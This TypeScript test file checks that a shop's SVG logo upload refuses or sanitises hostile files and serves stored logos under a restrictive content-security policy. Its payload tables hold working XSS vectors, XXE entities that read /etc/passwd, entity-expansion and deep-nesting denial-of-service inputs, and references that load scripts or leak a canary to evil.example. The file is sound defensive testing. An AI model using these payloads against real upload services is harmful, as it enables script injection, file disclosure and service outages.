import { redrawSvg } from '../../../src/server/files/redraw-svg.ts'
import { CANARY, type HostileFile } from '../../../test/support/hostile-inputs/hostile-files.ts'
import { clientAt, type Client } from '../../../test/support/calls/client.ts'
import { insertPerson } from '../../../test/support/people/people.ts'
import type { Failures, ProofContext } from '../../support/proof.ts'
import type { Server } from '../../../test/support/servers/start-server.ts'
import { openShopOf, type Place } from '../../../test/support/test-environment.ts'

const svg = (inside: string, root = 'viewBox="0 0 600 200"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${root}>${inside}</svg>`
const PATH = '<path d="M0 0h600v200z" fill="#9a3412"/>'
const RUN = `alert('${CANARY}')`

/** SVGs that load or run something or exhaust memory; each is refused. */
const REFUSED: Record<string, string> = {
  'a script': svg(`${PATH}<script>${RUN}</script>`),
  'a script of another address': svg(`${PATH}<script href="https://evil.example/x.js"/>`),
  'a script in capital letters': svg(`${PATH}<SCRIPT>${RUN}</SCRIPT>`),
  'a handler': svg(PATH, `viewBox="0 0 600 200" onload="${RUN}"`),
  'a handler in another case': svg(`<g ONCLICK="${RUN}">${PATH}</g>`),
  'a handler on a new line': svg(`<g\nonbegin\n=\n'${RUN.replaceAll("'", '')}'>${PATH}</g>`),
  'a link of a script': svg(`<a href="javascript:${RUN}">${PATH}</a>`),
  'an xlink of a script': svg(`<g xlink:href="javascript:${RUN}">${PATH}</g>`),
  'an animated address': svg(`<animate attributeName="href" values="javascript:${RUN}"/>${PATH}`),
  'a set address': svg(`<set attributeName="onclick" to="${RUN}"/>${PATH}`),
  'a page inside': svg(`<foreignObject><body onload="${RUN}"/></foreignObject>${PATH}`),
  'a picture of another host': svg(`<image href="https://evil.example/${CANARY}.png"/>${PATH}`),
  'a file of the server': svg(`<image href="file:///etc/passwd"/>${PATH}`),
  'a use of another file': svg(`<use href="https://evil.example/a.svg#b"/>${PATH}`),
  'a fill of another host': svg(`<path d="M0 0" fill="url(https://evil.example/${CANARY})"/>`),
  'a style of another host': svg(`<path d="M0 0" style="fill:url( 'https://evil.example' )"/>`),
  'a sheet of another host': svg(`<style>@import url(https://evil.example/${CANARY}.css);</style>${PATH}`),
  'a processing instruction': `<?xml-stylesheet href="https://evil.example/x.xsl"?>${svg(PATH)}`,
  'an entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<path d="&x;"/>')}`,
  'entities of entities': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<path d="&b;"/>')}`,
  'an entity in an attribute': svg(`<path d="M0 0" fill="&#106;avascript"/>`),
  'a filter': svg(`<filter id="f"><feImage href="https://evil.example"/></filter>${PATH}`),
  'letters of a font': svg(`<text>${CANARY}</text>`),
  'marked text': svg(`<![CDATA[<script>${RUN}</script>]]>${PATH}`),
  'a second drawing': svg(svg(PATH)),
  'something behind it': `${svg(PATH)}<script>${RUN}</script>`,
  'a hundred thousand parts': svg('<g/>'.repeat(40_000)),
  'a depth of ten thousand': svg(`${'<g>'.repeat(10_000)}${'</g>'.repeat(10_000)}`),
  'a megabyte of blanks': svg(' '.repeat(1_000_000)),
  'a million open brackets': '<'.repeat(1_000_000),
  'an attribute that never ends': `<svg viewBox="${' '.repeat(150_000)}`,
  'a size without end': svg(PATH, 'viewBox="0 0 1e999 1"'),
  'a page': `<html><body>${svg(PATH)}</body></html>`,
  'two bytes a sign': Buffer.from(svg(`<script>${RUN}</script>`), 'utf16le').toString('latin1'),
}

/** SVGs with parts that are dropped. */
const REDRAWN: Record<string, string> = {
  'a plain one': svg(PATH),
  'notes of its editor': svg(
    `<title>${CANARY}</title><metadata><rdf:RDF xmlns:rdf="x"><x:author>${CANARY}</x:author></rdf:RDF></metadata>${PATH}`,
    `viewBox="0 0 600 200" inkscape:export-filename="/home/${CANARY}/logo.png"`,
  ),
  'a comment': `<!-- ${CANARY} <script>${RUN}</script> -->${svg(PATH)}`,
  'an unknown attribute': svg(`<path d="M0 0h600v200z" data-author="${CANARY}"/>`),
  'a colour that ends its attribute': svg(`<path d="M0 0h600v200z" fill='#fff" onload="${CANARY}'/>`),
  'a script that is left out with its parent': svg(`<desc><script>${RUN}</script></desc>${PATH}`),
}

/** Logos, of which the drawing that was sent may be kept. */
export async function hostileLogos(
  {
    context,
    place,
    server,
    failures,
  }: { context: ProofContext; place: Place; server: Server; failures: Failures },
  photos: HostileFile[],
): Promise<string> {
  const owner = await insertPerson(await openShopOf(context, place), { admin: true })
  const client = clientAt(server.url, owner.access)
  for (const [says, text] of Object.entries(REFUSED)) {
    const { status, body } = await upload(client, Buffer.from(text))
    if (status < 300) failures.add(`a logo with ${says} is taken`)
    else if (![400, 413, 415].includes(status) || !/SVG|logo/.test(String(body?.error)))
      failures.add(`a logo with ${says} is not refused clearly`, `${status} ${JSON.stringify(body)}`)
  }
  const bad = photos.filter(({ expected }) => expected === 'refused')
  for (const { says, bytes } of bad) {
    const { status } = await upload(client, bytes).catch(() => ({ status: 0 }))
    // Far too large a body may be cut before its answer.
    if (status !== 0 && (status < 400 || status >= 500))
      failures.add(`${says} as a logo is taken`, String(status))
  }
  for (const [says, text] of Object.entries(REDRAWN))
    await expectRedrawn(server, client, says, text, failures)
  return `logos: ${Object.keys(REFUSED).length + bad.length} refused, ${Object.keys(REDRAWN).length} drawn again`
}

function upload(client: Client, bytes: Buffer) {
  const form = new FormData()
  form.set('upload_preset', 'logo')
  form.set('file', new Blob([new Uint8Array(bytes)], { type: 'image/svg+xml' }), 'logo.svg')
  return client.post('/uploads/', form)
}

/** The stored SVG contains only shapes, and is served with a policy that runs and loads nothing. */
async function expectRedrawn(server: Server, client: Client, says: string, text: string, failures: Failures) {
  const { status, body } = await upload(client, Buffer.from(text))
  if (status !== 201)
    return failures.add(`a logo with ${says} is refused`, `${status} ${JSON.stringify(body)}`)
  const stored = await fetch(`${server.url}${body.secure_url}`)
  const kept = await stored.text()
  if (kept.includes(CANARY)) failures.add('the canary is kept in a logo', says)
  if (/script|href|<!|<\?|&|\son\w+\s*=\s*"(?:alert|canar)/i.test(kept))
    failures.add('a logo is kept as it was sent', `${says}: ${kept.slice(0, 200)}`)
  else failures.expect(`${says} is not a drawing of ours`, redrawSvg(kept).svg, kept)
  const policy = stored.headers.get('content-security-policy')
  failures.expect(`the policy of a logo with ${says}`, policy, "default-src 'none'; sandbox")
}
